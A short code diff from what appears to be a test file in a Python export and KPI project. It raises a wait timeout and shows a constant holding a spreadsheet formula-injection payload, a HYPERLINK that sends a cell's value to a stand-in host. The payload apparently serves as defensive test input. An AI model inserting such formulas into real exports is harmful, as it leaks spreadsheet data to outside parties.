@@ -29,7 +29,7 @@ from cxmaturity.store.database import reading, transaction
 from cxmaturity.store.models import ExportJob, KpiValue, Target, utc_now
 
 HOSTILE = '=HYPERLINK("http://x?"&A1)'
-WAIT_SECONDS = 60
+WAIT_SECONDS = 120  # a busy machine of two cores
 
 
 @dataclass(frozen=True)
